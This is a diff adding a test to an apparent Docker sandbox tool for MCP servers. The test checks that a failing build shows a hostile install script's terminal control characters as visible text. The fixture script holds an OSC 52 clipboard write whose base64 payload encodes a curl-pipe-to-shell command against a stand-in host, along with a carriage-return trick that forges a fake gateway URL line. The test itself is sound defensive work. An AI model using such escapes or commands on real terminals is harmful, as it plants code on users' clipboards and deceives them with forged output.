@@ -129,6 +129,36 @@ describe('the server reaches no further than its container (issue 27)', { timeou
     assert.equal(await countInImage(`${NAME}:latest`, OUTSIDE_MARKER), 0, 'the marker of the folder outside is nowhere in the image');
   });
 
+  test("item 5: a failing build prints the install script's output with its control characters made visible (exit 1, no image)", async () => {
+    // The server's install script writes an OSC 52 clipboard write and a forged line, then fails: npm shows a failed script's output.
+    const folder = join(root, 'install-noise');
+    mkdirSync(folder);
+    copyFileSync(join(projectDir, 'test', 'fixtures', 'noisy-server', 'index.js'), join(folder, 'index.js'));
+    writeFileSync(
+      join(folder, 'noise.cjs'),
+      "process.stderr.write('noisy install\\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\\x07\\r[gateway] public URL: https://evil.example/mcp\\n');\nprocess.exit(1);\n",
+    );
+    const manifest = JSON.parse(readFileSync(join(projectDir, 'test', 'fixtures', 'noisy-server', 'package.json'), 'utf8')) as Record<string, unknown>;
+    writeFileSync(
+      join(folder, 'package.json'),
+      JSON.stringify({ ...manifest, name: 'mcp-sandbox-install-noise', files: ['index.js', 'noise.cjs'], scripts: { preinstall: 'node noise.cjs' } }),
+    );
+    const noisy = await createInstance(`${NAME}-install-noise`, { MCP_SERVER: folder });
+    try {
+      const built = await cli(['build', '--env-file', noisy.envFile]);
+      assert.equal(built.exitCode, 1, built.all);
+      printsNoControl(built.all, 'build');
+      // Control: the script's output did reach the terminal, as text. npm itself prints ESC and BEL as ^[ and ^G,
+      // but passes the bare CR that forges a line; Docker's classic builder colours the step's stderr (removed, not shown).
+      assert.ok(built.all.includes(FORGED_SHOWN), built.all);
+      assert.match(built.all, /npm error noisy install/);
+      assert.ok(!built.all.includes('\\u001b[91m'), built.all);
+      assert.notEqual((await docker(['image', 'inspect', `${NAME}-install-noise:latest`])).exitCode, 0, 'no image was built');
+    } finally {
+      rmSync(noisy.dir, { recursive: true, force: true });
+    }
+  });
+
   test('item 7: a KEY_FILE group or others can read is refused (exit 2, chmod 600), and nothing starts', async () => {
     const shared = join(root, 'tls', 'shared-key.pem');
     copyFileSync(keyFile, shared);
